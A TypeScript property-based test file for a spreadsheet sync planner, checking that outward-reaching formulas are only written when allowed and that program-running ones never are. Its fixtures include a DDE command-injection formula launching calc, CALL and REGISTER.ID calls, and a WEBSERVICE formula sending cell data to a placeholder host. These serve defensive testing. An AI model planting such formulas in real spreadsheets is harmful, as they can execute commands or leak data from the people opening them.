import fc from 'fast-check';
import { compare } from '../../../src/core/compare/compare';
import { newlyOutside } from '../../../src/core/propose/outsideFormulas';
import { correspond } from '../../../src/core/settle/correspond';
import { planSync } from '../../../src/core/sync/planSync';
import type { SyncPlan } from '../../../src/core/sync/SyncPlan';
import { runSteps, toPaper, toSnapshot } from '../../support/paper';
import { workbook, type SheetText } from '../../support/workbook';

const OUTWARD = [
  '=WEBSERVICE("https://a.example/"&A1)',
  '=IF(A1>0,HYPERLINK("https://a.example","x"),0)',
  '=_xlfn.IMAGE("https://a.example/i.png")',
  '=SUM(1,RTD("p",,"t"))',
];
const NEVER = ['=CALL("k","b","J")', '=REGISTER.ID("k","b")', '=[2]Other!A1', "=cmd|'/c calc'!A0"];
const PLAIN = ['=A1*2', '=HYPERLINK("#Model!A1","Top")', '="WEBSERVICE(1)"', 3, 'text'];

const cell = fc.constantFrom<string | number>(...OUTWARD, ...NEVER, ...PLAIN);
const books = fc.record({
  official: fc.array(cell, { minLength: 3, maxLength: 8 }),
  local: fc.array(fc.constantFrom<string | number>(...PLAIN), { minLength: 3, maxLength: 8 }),
});

const book = (column: readonly (string | number)[]): SheetText =>
  Object.fromEntries([
    ['A1', 1],
    ...column.flatMap((content, i) => [
      [`A${i + 2}`, `Line ${i}`],
      [`B${i + 2}`, content],
    ]),
  ]) as SheetText;

/** The plan of all causes, with these differences allowed to reach outside. */
function planOf(officialText: SheetText, localText: SheetText, outside: (plan: SyncPlan) => readonly string[]) {
  const [official, local] = [workbook({ Model: officialText }), workbook({ Model: localText })];
  const found = compare(official, local);
  const planned = (allowed: readonly string[]) =>
    planSync(official, local, correspond(official, local), found, { take: 'causes', deleteLocalOnly: [], outside: allowed });
  const first = planned([]);
  const ids = outside(first);
  return { first, ids, second: planned(ids), official, local };
}

const formulasIn = ({ steps }: SyncPlan): readonly string[] => newlyOutside(steps);

describe('laws of formulas that reach outside', () => {
  it('none is written unasked, and each that could be is told', () =>
    fc.assert(
      fc.property(books, ({ official, local }) => {
        const { first } = planOf(book(official), book(local), () => []);
        expect(formulasIn(first)).toEqual([]);
        for (const { difference, allowed } of first.outside ?? []) {
          expect(allowed).toBe(false);
          expect(first.refused.some((one) => one.difference === difference && one.reason.includes('does not come unasked'))).toBe(true);
        }
      }),
    ));

  it('those that are allowed are written, and no others', () =>
    fc.assert(
      fc.property(books, fc.nat(), ({ official, local }, seed) => {
        const { first, second, ids } = planOf(book(official), book(local), ({ outside = [] }) =>
          outside.filter((_, i) => (seed >> i) % 2 === 0).map(({ difference }) => difference),
        );
        const allowed = (first.outside ?? []).filter(({ difference }) => ids.includes(difference)).map(({ formula }) => formula);
        expect([...formulasIn(second)].sort()).toEqual([...new Set(allowed)].sort());
        expect((second.outside ?? []).filter((one) => one.allowed).map(({ formula }) => formula)).toEqual(allowed);
      }),
    ));

  it('those that run programs or lie in other workbooks are not written, whoever allows them', () =>
    fc.assert(
      fc.property(fc.constantFrom(...NEVER), (formula) => {
        const { first, official, local } = planOf(book([formula, 1, 2]), book([5, 1, 2]), () => []);
        const all = compare(official, local).differences.map(({ id }) => id);
        const plan = planOf(book([formula, 1, 2]), book([5, 1, 2]), () => all).second;
        expect([first.outside, plan.outside, plan.steps]).toEqual([undefined, undefined, []]);
      }),
    ));

  it('nothing is left once all were allowed', () =>
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...OUTWARD), { minLength: 3, maxLength: 5 }), (formulas) => {
        const { second, official, local } = planOf(book(formulas), book([1, 2, 3, 4, 5].slice(0, formulas.length)), ({ outside = [] }) =>
          outside.map(({ difference }) => difference),
        );
        const { paper } = runSteps(toPaper(local), second.steps);
        expect(compare(official, toSnapshot(paper)).differences.filter(({ role }) => role === 'cause')).toEqual([]);
      }),
    ));
});

it('tells one that is filled down once, with how often', () => {
  const filled = Object.fromEntries(
    [1, 2, 3].flatMap((row) => [
      [`A${row}`, row],
      [`B${row}`, `=WEBSERVICE("https://a.example/"&A${row})`],
    ]),
  ) as SheetText;
  const { first } = planOf(filled, { A1: 1, A2: 2, A3: 3, B1: 7, B2: 8, B3: 9 }, () => []);
  const told = first.outside ?? [];
  expect(told.reduce((sum, { cells }) => sum + cells, 0)).toBe(3);
  expect(told[0]).toMatchObject({ sheet: 'Model', address: 'B1', formula: '=WEBSERVICE("https://a.example/"&A1)' });
});
